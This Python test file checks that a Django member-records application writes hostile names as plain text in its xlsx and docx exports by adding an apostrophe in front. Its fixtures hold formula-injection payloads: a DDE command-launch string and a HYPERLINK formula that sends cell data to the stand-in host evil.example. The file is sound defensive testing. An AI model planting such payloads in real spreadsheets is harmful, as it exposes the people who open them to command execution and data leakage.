"""No exported text is a formula: hostile names and 工作单位 come out of every .xlsx and .docx
(member export, every declared form, every per-person document) as the text typed, behind
an apostrophe."""

import datetime
import io

import pytest
from django.urls import reverse

from paicha.conftest import make_member
from paicha.core.cells import safe_cell, safe_row
from paicha.reports.declarations import all_forms

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
# A 姓名 holds at most 30 characters (PostgreSQL enforces it): the shorter formula of the two.
SHORT_LINK = '=HYPERLINK("http://e.x/","点")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_values_a_spreadsheet_would_evaluate_get_an_apostrophe():
    assert safe_cell(CALC) == "'=cmd|' /C calc'!A0"
    assert safe_cell("+1+cmd") == "'+1+cmd"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("\r=1") == "'\r=1"
    # Harmless values are kept as typed.
    assert safe_cell("王=五") == "王=五"
    assert safe_cell("-3") == "-3"
    assert safe_cell("+8613812345678") == "+8613812345678"
    assert safe_cell("-") == "-"
    assert safe_cell("") == ""
    assert safe_cell(None) is None
    assert safe_cell(12) == 12
    assert safe_cell(datetime.date(2020, 1, 2)) == datetime.date(2020, 1, 2)
    assert safe_row(["a", LINK, 3]) == ["a", "'" + LINK, 3]


def _xlsx_cells(content: bytes):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula_in_xlsx(content: bytes, where: str) -> list[str]:
    texts = []
    for cell in _xlsx_cells(content):
        assert cell.data_type != "f", (where, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS) or len(cell.value) == 1, (
                where,
                cell.coordinate,
                cell.value,
            )
            texts.append(cell.value)
    return texts


def _docx_texts(content: bytes) -> list[str]:
    import docx

    document = docx.Document(io.BytesIO(content))
    texts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            for cell in row.cells:
                texts += [p.text for p in cell.paragraphs]
    return texts


def _assert_no_formula_in_docx(content: bytes, where: str) -> list[str]:
    texts = _docx_texts(content)
    for text in texts:
        assert not text.startswith(TRIGGERS) or len(text) == 1, (where, text)
    return texts


@pytest.fixture
def hostile(tree):
    from paicha.accounts.models import User
    from paicha.cases.services import case_open
    from paicha.organizations.permissions import Role

    worker = User.objects.create_user(
        "w", password="x-Secret-9", organization=tree.branch_a1, role=Role.BRANCH_WORKER
    )
    calc = make_member(tree.branch_a1, CALC, work_unit=LINK, residence=LINK, mobile="13800000009")
    link = make_member(
        tree.branch_a1, SHORT_LINK, work_unit=CALC, join_date=datetime.date(2001, 7, 1)
    )
    case = case_open(
        member=calc,
        acting_user=worker,
        opened_on=datetime.date(2024, 3, 1),
        lost_since=datetime.date(2020, 1, 1),
    )
    return {"calc": calc, "link": link, "case": case}


def test_member_export_writes_hostile_names_as_text(hostile, personas, client_for):
    client = client_for(personas["department"])
    response = client.get(reverse("members:export"))
    assert response.status_code == 200
    texts = _assert_no_formula_in_xlsx(response.content, "members:export")
    assert "'" + CALC in texts and "'" + LINK in texts and "'" + SHORT_LINK in texts


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_every_form_writes_hostile_names_as_text(hostile, tree, personas, client_for, fmt):
    client = client_for(personas["department"])
    seen = set()
    for form in all_forms():
        url = reverse("reports:form", args=[form.slug])
        response = client.get(url, {"org": tree.root.code, "date": "2024-06-30", "format": fmt})
        assert response.status_code == 200, form.slug
        check = _assert_no_formula_in_xlsx if fmt == "xlsx" else _assert_no_formula_in_docx
        texts = check(b"".join(response) if response.streaming else response.content, form.slug)
        if any(CALC in t for t in texts):
            seen.add(form.slug)
    # The branch roster lists both members; the hostile name reached it and was neutralised.
    assert "branch-roster" in seen


def test_every_document_writes_hostile_names_as_text(hostile, personas, client_for):
    client = client_for(personas["department"])
    case = hostile["case"]
    urls = {
        "registration": reverse(
            "reports:document", args=["member-registration", hostile["calc"].pk]
        )
        + "?format=docx",
        "record": reverse("cases:docx", args=[case.pk, "record"]),
        "jishi": reverse("cases:docx", args=[case.pk, "jishi"]),
    }
    for where, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, where
        texts = _assert_no_formula_in_docx(response.content, where)
        assert any(t.startswith("'" + CALC) for t in texts), where
        if where != "registration":
            continue
        assert any(t.startswith("'" + LINK) for t in texts), where
